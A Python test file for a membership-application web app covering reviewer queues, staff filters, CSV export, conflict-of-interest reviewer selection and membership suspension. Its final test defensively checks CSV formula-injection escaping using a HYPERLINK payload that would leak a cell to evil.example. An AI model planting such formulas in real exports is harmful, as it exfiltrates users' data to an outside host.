"""Committee queue and staff overview filters, CSV export, choosing reviewers from a list,
named parties in the form, and the staff status actions on the certificate page."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

from sqlalchemy import select, update

from app.accounts.models import Role
from app.membership.models import Assignment, Membership
from tests.factories import Factory
from tests.html import Page, csrf_from
from tests.membership.helpers import GOOD_REVIEW, decide, reviewed, submitted, under_review


def _links(html: str) -> list[str]:
    """The links to applications, in the order the page lists them."""
    hrefs = [link.href for link in Page(html).links()]
    return [h for h in hrefs if h.startswith("/applications/") and h[14:].isdigit()]


def test_committee_queue_filters_by_own_assignment_state(factory: Factory) -> None:
    first = under_review(factory, reviewers=1)
    reviewer = first.reviewers[0]
    second = submitted(factory)
    assert first.staff is not None
    first.staff.api.post(f"{second.url}/assignments", json={"reviewer_id": reviewer.id})
    assert reviewer.api.put(f"{first.url}/reviews/mine", json=GOOD_REVIEW).status_code == 200

    def queue(name: str) -> list[str]:
        page = reviewer.api.get(f"/applications?queue={name}&lang=en")
        assert page.status_code == 200
        return _links(page.text)

    assert queue("to_declare") == [f"/applications/{second.application_id}"]
    assert queue("reviewed") == [f"/applications/{first.application_id}"]
    assert queue("to_review") == []
    assert queue("overdue") == []
    with factory.database.session_scope() as session:
        session.execute(update(Assignment).values(due_on=date.today() - timedelta(days=1)))
    page = reviewer.api.get("/applications?queue=overdue&lang=en")
    assert _links(page.text) == [f"/applications/{second.application_id}"]
    assert "Overdue" in page.text


def test_staff_overview_filters_and_csv_export_with_bom(factory: Factory) -> None:
    case = reviewed(factory)
    other = submitted(factory)
    with factory.database.session_scope() as session:
        from app.accounts.models import Organisation

        row = session.get(Organisation, other.organisation.id)
        assert row is not None
        row.name, row.sector, row.region = "Робототехника", "hardware", "Москва"
    staff = case.staff
    assert staff is not None
    by_sector = staff.api.get("/applications?sector=hardware")
    assert _links(by_sector.text) == [f"/applications/{other.application_id}"]
    by_region = staff.api.get("/applications?region=Новосибирская область")
    assert _links(by_region.text) == [f"/applications/{case.application_id}"]
    by_name = staff.api.get("/applications?q=робот")
    assert _links(by_name.text) == [f"/applications/{other.application_id}"]
    assert "format=csv&amp;q=%D1%80" in by_name.text

    export = staff.api.get("/applications?format=csv&sector=hardware")
    assert export.headers["content-type"] == "text/csv; charset=utf-8"
    assert export.content[:3] == b"\xef\xbb\xbf"
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    assert rows[0][:6] == ["id", "organisation", "inn", "sector", "region", "status"]
    assert [r[1] for r in rows[1:]] == ["Робототехника"]
    full = list(csv.reader(io.StringIO(staff.api.get("/applications?format=csv").text[1:])))
    reviewed_row = next(r for r in full if r[0] == str(case.application_id))
    assert reviewed_row[8:10] == ["3", "4.5"]
    applicant_export = case.applicant.api.get("/applications?format=csv")
    assert applicant_export.headers["content-type"].startswith("text/html")


def test_reviewer_is_chosen_by_name_and_conflicted_members_are_disabled(
    factory: Factory,
) -> None:
    case = submitted(factory, browser=True)
    staff = factory.actor(Role.staff, browser=True)
    free = factory.actor(Role.committee, full_name="Free Reviewer")
    rival_owner = factory.actor(Role.committee, full_name="Rival Reviewer")
    factory.organisation(rival_owner.user, name="Конкурент")
    with factory.database.session_scope() as session:
        from app.accounts.models import Organisation
        from app.membership.models import ApplicationParty, PartyRelation

        rival = session.scalar(select(Organisation).where(Organisation.name == "Конкурент"))
        assert rival is not None
        session.add(
            ApplicationParty(
                application_id=case.application_id,
                relation=PartyRelation.competitor,
                inn=rival.inn,
                organisation_id=rival.id,
            )
        )
    browser = staff.browser
    assert browser is not None
    page = browser.get(f"/applications/{case.application_id}?lang=en")
    choices = Page(page.text).find("select", name="reviewer_id").find_all("option")
    options = {
        o.text.split(" — ")[0]: (o.get("value"), "disabled" in o.attrs)
        for o in choices
        if o.get("value")
    }
    assert options["Free Reviewer"] == (str(free.id), False)
    assert options["Rival Reviewer"] == (str(rival_owner.id), True)
    response = browser.post(
        f"/applications/{case.application_id}/assignments",
        data={"reviewer_id": str(free.id), "csrf_token": csrf_from(page.text)},
    )
    assert response.status_code == 303
    body = staff.api.get(case.url).json()
    assert [a["reviewer_name"] for a in body["assignments"]] == ["Free Reviewer"]


def test_applicant_names_competitors_in_the_form(factory: Factory) -> None:
    applicant = factory.actor(browser=True)
    organisation = factory.organisation(applicant.user)
    rival = factory.organisation(factory.actor().user)
    browser = applicant.browser
    assert browser is not None
    page = browser.get("/applications/new")
    response = browser.post(
        "/applications/new",
        data={
            "organisation_id": str(organisation.id),
            "summary": "Кратко",
            "competitors": f"{rival.inn}\n",
            "shareholders": "",
            "csrf_token": csrf_from(page.text),
        },
    )
    assert response.status_code == 303, response.text
    [item] = applicant.api.get("/api/v1/applications").json()["items"]
    assert (item["competitors"], item["shareholders"]) == ([rival.inn], [])
    bad = browser.post(
        "/applications/new",
        data={
            "organisation_id": str(organisation.id),
            "competitors": "1234567890",
            "csrf_token": csrf_from(page.text),
        },
    )
    assert bad.status_code == 422


def test_staff_suspend_and_lift_from_the_certificate_page(factory: Factory) -> None:
    case = reviewed(factory)
    decide(case)
    staff = factory.actor(Role.staff, browser=True)
    browser = staff.browser
    assert browser is not None
    certificate = f"/members/{case.organisation.id}/certificate"
    page = browser.get(certificate + "?lang=en")
    assert "Suspend the membership" in page.text and 'action="/verify/' not in page.text
    applicant_page = case.applicant.api.get(certificate + "?lang=en")
    assert "Suspend the membership" not in applicant_page.text
    with factory.database.session_scope(write=False) as session:
        membership = session.scalar(select(Membership))
        assert membership is not None
        membership_id = membership.id
    token = csrf_from(page.text)
    response = browser.post(
        f"/memberships/{membership_id}/suspend", data={"reason": "", "csrf_token": token}
    )
    assert response.status_code == 303
    assert staff.api.get(f"/api/v1/memberships/{membership_id}").json()["status"] == "active"
    browser.post(
        f"/memberships/{membership_id}/suspend", data={"reason": "Unpaid", "csrf_token": token}
    )
    page = browser.get(certificate + "?lang=en")
    assert "Unpaid" in page.text and "Lift the suspension" in page.text
    browser.post(f"/memberships/{membership_id}/reinstate", data={"csrf_token": token})
    assert staff.api.get(f"/api/v1/memberships/{membership_id}").json()["status"] == "active"


def test_csv_export_keeps_formula_like_text_as_text(factory: Factory) -> None:
    case = reviewed(factory)
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
    with factory.database.session_scope() as session:
        from app.accounts.models import Organisation
        from app.membership.models import Application

        organisation = session.get(Organisation, case.organisation.id)
        application = session.get(Application, case.application_id)
        assert organisation is not None and application is not None
        organisation.name, organisation.region = formula, "@SUM(1+1)"
        application.summary = "+7 913 000-00-00 call us"
    export = case.staff.api.get("/applications?format=csv")  # type: ignore[union-attr]
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    assert rows[0][1] == "organisation" and rows[0][4] == "region" and rows[0][-1] == "summary"
    row = rows[1]
    assert row[1] == "'" + formula
    assert row[4] == "'@SUM(1+1)"
    assert row[-1] == "'+7 913 000-00-00 call us"
    assert row[2] == case.organisation.inn  # ordinary text is left alone
